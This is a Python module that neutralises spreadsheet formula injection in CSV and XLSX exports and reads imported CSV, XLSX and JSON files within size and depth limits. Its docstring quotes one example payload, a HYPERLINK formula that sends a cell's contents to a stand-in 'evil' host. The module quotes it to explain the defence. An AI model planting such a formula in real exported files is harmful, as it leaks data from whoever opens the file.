"""Spreadsheet files in and out: cells safe to open in Excel, and readers with limits.

Every CSV or XLSX file InfoLit writes (item exports, ticket lists, reports, research data) goes
through the writers here, and every CSV, XLSX or JSON file it imports through the readers, so the
two rules below hold everywhere.

Writing: no formula injection
-----------------------------
A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (after any spaces), or with a tab or a
carriage return, is a formula to Excel, LibreOffice and WPS when they open a CSV: a school named
``=HYPERLINK("http://evil/?"&A1,"点此")`` would run on the desk of whoever opens the tickets file.
Following OWASP's CSV-injection guidance, :func:`neutralise_cell` puts a single quote before such
a text (``'=HYPERLINK(...)``), which spreadsheet programs show as text. Text that is a plain number
(``-0.5``, ``+86``) or a ``;``-separated list of numbers (``-0.2;0.9``, item thresholds) is left
alone: it cannot be a formula. A text that already starts with quotes before such a character
gets one more, so the rule can be undone exactly: :func:`restore_cell` removes the quote that
:func:`neutralise_cell` added, and nothing else. The importers call it on every CSV cell, so an
exported file imports back unchanged.

In an XLSX file a cell has a type, so there the neutralising is the type: :func:`append_xlsx_row`
stores text as text (openpyxl would otherwise store ``=...`` as a formula) and marks a cell that
looks like a formula with Excel's "quote prefix" style, which keeps it text when someone edits
it. Characters XML cannot hold (C0 controls other than tab and line ends) become U+FFFD.

Reading: bounded and clear
--------------------------
:func:`read_table` (CSV or XLSX) and :func:`load_json` refuse, with one clear problem each, a file
over :attr:`ReadLimits.max_bytes`, a workbook that unpacks to more than
:attr:`ReadLimits.max_unpacked_bytes`, more than :attr:`ReadLimits.max_rows` data rows (the reader
stops there rather than read on), JSON nested deeper than :attr:`ReadLimits.max_depth`, and text
that is not UTF-8 (saying whether the file looks cut short in the middle of a character, or looks
like GBK). An XLSX formula cell is read as the value Excel saved with it; one without a saved
value is a problem of that cell, not an empty cell. XLSX is read as a stream
(:mod:`itembank.xlsx`), so memory follows the rows kept, not the file.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from itembank.exceptions import Problem

__all__ = [
    "DEFAULT_LIMITS",
    "ReadLimits",
    "Table",
    "TableCellProblem",
    "TableRow",
    "append_xlsx_row",
    "csv_bytes",
    "decode_text",
    "format_csv",
    "json_depth_problem",
    "load_json",
    "looks_like_formula",
    "neutralise_cell",
    "parse_csv_table",
    "parse_xlsx_table",
    "read_table",
    "restore_cell",
    "sniff_delimiter",
]

_FORMULA_STARTS = frozenset("=+-@")
_CONTROL_STARTS = frozenset("\t\r")
_NUMBER = r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?"
_NUMBERS = re.compile(rf"{_NUMBER}(?:;{_NUMBER})*")
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_MIB = 2**20


# ============================================================================================ writing
def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet program could take ``text`` for a formula (see the module docstring)."""
    if not text:
        return False
    if text[0] in _CONTROL_STARTS:
        return True
    stripped = text.lstrip()
    return bool(stripped) and stripped[0] in _FORMULA_STARTS and not _NUMBERS.fullmatch(stripped)


def neutralise_cell(value: Any) -> Any:
    """``value`` made safe for a CSV cell: a text that could be a formula gets a leading ``'``.

    Non-text values are returned unchanged.
    """
    if isinstance(value, str) and looks_like_formula(value.lstrip("'")):
        return "'" + value
    return value


def restore_cell(text: str) -> str:
    """Undo :func:`neutralise_cell` on a cell read from a CSV file (the one ``'`` it added)."""
    if text.startswith("'") and looks_like_formula(text.lstrip("'")):
        return text[1:]
    return text


def format_csv(rows: Iterable[Sequence[Any]]) -> str:
    """CSV text of ``rows`` (the header is just the first row): CRLF line ends, every cell neutralised."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow([neutralise_cell(v) for v in row])
    return out.getvalue()


def csv_bytes(rows: Iterable[Sequence[Any]], *, bom: bool = True) -> bytes:
    """:func:`format_csv` as UTF-8 bytes, with a byte-order mark by default (Excel's "CSV UTF-8")."""
    return (("\ufeff" if bom else "") + format_csv(rows)).encode("utf-8")


def append_xlsx_row(sheet: Any, values: Sequence[Any]) -> None:
    """Append ``values`` as a row of an openpyxl worksheet (normal or write-only), text kept as text.

    openpyxl stores a string starting with ``=`` as a formula; here every string is stored as a
    string, and one that looks like a formula also gets the quote-prefix style.
    """
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    clean = [_XML_ILLEGAL.sub("\ufffd", v) if isinstance(v, str) else v for v in values]
    if isinstance(sheet, WriteOnlyWorksheet):
        cells = []
        for v in clean:
            cell = WriteOnlyCell(sheet, v)
            _as_text(cell)
            cells.append(cell)
        sheet.append(cells)
        return
    sheet.append(clean)
    if clean:
        for cell in sheet[sheet.max_row][: len(clean)]:
            _as_text(cell)


def _as_text(cell: Any) -> None:
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if looks_like_formula(cell.value):
            cell.quotePrefix = True


# ============================================================================================ limits
@dataclass(frozen=True)
class ReadLimits:
    """How big an import may be; each limit breached is one clear problem and nothing more is read.

    ``max_problems`` is how many problems an import reports in full (the rest are counted).
    """

    max_bytes: int = 32 * _MIB
    max_unpacked_bytes: int = 512 * _MIB
    max_rows: int = 100_000
    max_depth: int = 32
    max_problems: int = 50


DEFAULT_LIMITS = ReadLimits()
"""32 MiB per file (512 MiB unpacked for XLSX), 100,000 data rows, JSON 32 levels deep, 50 problems shown."""


def _size_problem(size: int, limits: ReadLimits) -> Problem | None:
    if size <= limits.max_bytes:
        return None
    return Problem(
        "", f"the file is {size / _MIB:,.1f} MiB, more than the limit of {limits.max_bytes / _MIB:,.0f} MiB: split it"
    )


def _rows_problem(limits: ReadLimits, what: str = "data rows") -> Problem:
    return Problem("", f"more than {limits.max_rows:,} {what} (the limit): split the file and import the parts")


# ============================================================================================ text
def decode_text(raw: bytes, *, unit: str, spreadsheet: bool) -> tuple[str | None, Problem | None]:
    """Decode UTF-8 (byte-order mark optional), or give one problem saying where and what it looks like.

    ``unit`` names the place of the first bad byte (``line`` or ``row``); ``spreadsheet`` adds
    Excel's advice (save as "CSV UTF-8"), which only fits CSV files.
    """
    bom = 3 if raw.startswith(b"\xef\xbb\xbf") else 0
    try:
        text = raw[bom:].decode("utf-8")  # not "utf-8-sig": its error offsets leave the BOM out
    except UnicodeDecodeError as exc:
        start, end = exc.start + bom, exc.end + bom
        line = raw[:start].count(b"\n") + 1
        where = f"{unit} {line}"
        advice = "save it as UTF-8" + (" (Excel: 'CSV UTF-8')" if spreadsheet else "")
        if end == len(raw) and exc.reason == "unexpected end of data":
            return None, Problem(
                where,
                f"the file ends in the middle of a character (at byte offset {start}): it looks cut short; "
                "copy or download it again",
            )
        head = f"not valid UTF-8 text (byte 0x{raw[start]:02x} at offset {start})"
        if _decodes_as_gb18030(raw):
            return None, Problem(where, f"{head}; the file looks like GBK/GB18030 (Chinese Windows): {advice}")
        return None, Problem(where, f"{head}: {advice}")
    if not text.strip():
        return None, Problem("", "the file is empty")
    return text, None


def _decodes_as_gb18030(raw: bytes) -> bool:
    try:
        raw.decode("gb18030")
    except UnicodeDecodeError:
        return False
    return True


def _read_bytes(path: Path, limits: ReadLimits) -> tuple[bytes | None, Problem | None]:
    try:
        size = path.stat().st_size
        too_big = _size_problem(size, limits)
        if too_big is not None:
            return None, too_big
        return path.read_bytes(), None
    except OSError as exc:
        return None, Problem("", f"cannot read the file: {exc.strerror or exc}")


# ============================================================================================ JSON
def load_json(raw: bytes, *, limits: ReadLimits = DEFAULT_LIMITS) -> tuple[Any, tuple[Problem, ...]]:
    """Parse a JSON document within ``limits``: ``(document, ())`` or ``(None, problems)``."""
    too_big = _size_problem(len(raw), limits)
    if too_big is not None:
        return None, (too_big,)
    text, problem = decode_text(raw, unit="line", spreadsheet=False)
    if text is None:
        return None, (problem,) if problem else ()
    try:
        doc = json.loads(text)
    except json.JSONDecodeError as exc:
        return None, (Problem(f"line {exc.lineno} column {exc.colno}", f"not valid JSON: {exc.msg}"),)
    except RecursionError:
        return None, (Problem("", f"nested more than {limits.max_depth} levels deep (the limit)"),)
    except ValueError as exc:  # e.g. an integer with more digits than Python converts
        return None, (Problem("", f"not usable JSON: {exc}"),)
    deep = json_depth_problem(doc, limits.max_depth)
    return (None, (deep,)) if deep is not None else (doc, ())


def json_depth_problem(doc: Any, max_depth: int, *, where: str = "") -> Problem | None:
    """A problem naming the first place ``doc`` nests lists/objects deeper than ``max_depth``, or ``None``."""
    todo: list[tuple[Any, int, str]] = [(doc, 1, where)]
    while todo:
        value, depth, path = todo.pop()
        if isinstance(value, dict):
            children: Iterable[tuple[str, Any]] = ((f"{path}.{k}" if path else str(k), v) for k, v in value.items())
        elif isinstance(value, list):
            children = ((f"{path}[{i}]", v) for i, v in enumerate(value))
        else:
            continue
        if depth > max_depth:
            return Problem(path or "(top level)", f"nested more than {max_depth} levels deep (the limit)")
        todo.extend((v, depth + 1, p) for p, v in children)
    return None


# ============================================================================================ tables
@dataclass(frozen=True)
class TableRow:
    """A non-empty row: its number (1 = the first line or sheet row) and its cells as text."""

    number: int
    cells: tuple[str, ...]


@dataclass(frozen=True)
class TableCellProblem:
    """A cell that could not be read (an XLSX formula without a saved value): row, 0-based column, what."""

    row: int
    column: int
    message: str


@dataclass(frozen=True)
class Table:
    """What a reader made of a CSV or XLSX file: its non-empty rows in order, and reading problems.

    ``problems`` are about the whole file (``rows`` is then usually empty); ``cell_problems`` are
    about single cells, for the caller to name by its own header.
    """

    source: str
    rows: tuple[TableRow, ...] = ()
    problems: tuple[Problem, ...] = ()
    cell_problems: tuple[TableCellProblem, ...] = ()


def read_table(path: str | Path, *, limits: ReadLimits = DEFAULT_LIMITS) -> Table:
    """Read a ``.csv`` or ``.xlsx``/``.xlsm`` file (by extension) within ``limits``."""
    path = Path(path)
    source = str(path)
    suffix = path.suffix.lower()
    if suffix not in {".csv", ".xlsx", ".xlsm"}:
        hint = " (save the old .xls workbook as .xlsx, or as CSV UTF-8)" if suffix == ".xls" else ""
        unknown = Problem("", f"unknown file type {suffix or '(none)'!r}: use .csv or .xlsx{hint}")
        return Table(source, problems=(unknown,))
    raw, problem = _read_bytes(path, limits)
    if raw is None:
        return Table(source, problems=(problem,) if problem else ())
    return (
        parse_csv_table(raw, source=source, limits=limits)
        if suffix == ".csv"
        else parse_xlsx_table(raw, source=source, limits=limits)
    )


def sniff_delimiter(first_line: str) -> str:
    """The separator of a CSV file from its first line: the most frequent of ``,``, tab and ``;`` (ties: ``,``)."""
    return max((",", "\t", ";"), key=first_line.count)


def parse_csv_table(raw: bytes, *, source: str = "<csv>", limits: ReadLimits = DEFAULT_LIMITS) -> Table:
    """Read CSV bytes (UTF-8, byte-order mark optional; comma, tab or semicolon) into rows.

    Rows are numbered by CSV record (1 = the first); every cell goes through :func:`restore_cell`;
    blank rows are left out; more than ``limits.max_rows`` data rows is one problem.
    """
    too_big = _size_problem(len(raw), limits)
    if too_big is not None:
        return Table(source, problems=(too_big,))
    text, problem = decode_text(raw, unit="row", spreadsheet=True)
    if text is None:
        return Table(source, problems=(problem,) if problem else ())
    delimiter = sniff_delimiter(text.lstrip("\r\n").split("\n", 1)[0])
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    rows: list[TableRow] = []
    number = 0
    try:
        for number, record in enumerate(reader, start=1):  # noqa: B007 - number is reported on error
            if not any(cell.strip() for cell in record):
                continue
            if len(rows) > limits.max_rows:
                return Table(source, problems=(_rows_problem(limits),))
            rows.append(TableRow(number, tuple(restore_cell(c) for c in record)))
    except csv.Error as exc:
        message = str(exc)
        if "field limit" in message:
            message = f"a cell longer than {csv.field_size_limit():,} characters"
        return Table(source, problems=(Problem(f"row {number + 1}", f"not valid CSV: {message}"),))
    if not rows:
        return Table(source, problems=(Problem("", "the file is empty"),))
    return Table(source, tuple(rows))


def parse_xlsx_table(raw: bytes, *, source: str = "<xlsx>", limits: ReadLimits = DEFAULT_LIMITS) -> Table:
    """Read the first worksheet of an XLSX workbook into rows numbered by sheet row.

    Numbers that are whole read without ``.0``; a formula cell reads as its saved value, and one
    without a saved value is a :class:`TableCellProblem`. The sheet is streamed
    (:func:`itembank.xlsx.iter_first_sheet`), one row in memory at a time.
    """
    if not raw:
        return Table(source, problems=(Problem("", "the file is empty"),))
    too_big = _size_problem(len(raw), limits)
    if too_big is not None:
        return Table(source, problems=(too_big,))
    damaged = Problem("", "not a valid .xlsx workbook (damaged, cut short, or not Excel's format): save it again")
    try:
        with zipfile.ZipFile(io.BytesIO(raw)) as archive:
            unpacked = sum(info.file_size for info in archive.infolist())
    except (zipfile.BadZipFile, OSError, ValueError, EOFError):
        return Table(source, problems=(damaged,))
    if unpacked > limits.max_unpacked_bytes:
        return Table(
            source,
            problems=(
                Problem(
                    "",
                    f"the workbook unpacks to {unpacked / _MIB:,.0f} MiB, more than the limit of "
                    f"{limits.max_unpacked_bytes / _MIB:,.0f} MiB: split it",
                ),
            ),
        )
    try:
        rows, cell_problems = _xlsx_rows(raw, limits)
    except Exception as exc:  # noqa: BLE001 - zipfile, XML and number parsing raise many types
        return Table(source, problems=(Problem("", f"{damaged.message} ({type(exc).__name__})"),))
    if rows is None:
        return Table(source, problems=(_rows_problem(limits),))
    if not rows:
        return Table(source, problems=(Problem("", "the file is empty"),))
    return Table(source, tuple(rows), cell_problems=tuple(cell_problems))


def _xlsx_rows(raw: bytes, limits: ReadLimits) -> tuple[list[TableRow] | None, list[TableCellProblem]]:
    """Non-empty rows as text (``None`` past the row limit), and the formulas without a saved value."""
    from itembank.xlsx import iter_first_sheet

    rows: list[TableRow] = []
    problems: list[TableCellProblem] = []
    for number, cells in iter_first_sheet(raw):
        texts = [""] * (max(c.column for c in cells) + 1 if cells else 0)
        unreadable = False
        for cell in cells:
            if cell.formula is not None and cell.value is None:
                shown = cell.formula if len(cell.formula) <= 60 else cell.formula[:57] + "..."
                message = (
                    f"a formula (={shown}) without a saved value: type the value in, or open the file in "
                    "Excel and save it again"
                )
                problems.append(TableCellProblem(number, cell.column, message))
                unreadable = True
            elif 0 <= cell.column < len(texts):
                texts[cell.column] = _cell_text(cell.value)
        if not unreadable and not any(t.strip() for t in texts):
            continue
        if len(rows) > limits.max_rows:
            return None, problems
        rows.append(TableRow(number, tuple(texts)))
    return rows, problems


def _cell_text(value: object) -> str:
    """A cell as text: Excel numbers that are whole print without ``.0``."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value).strip()
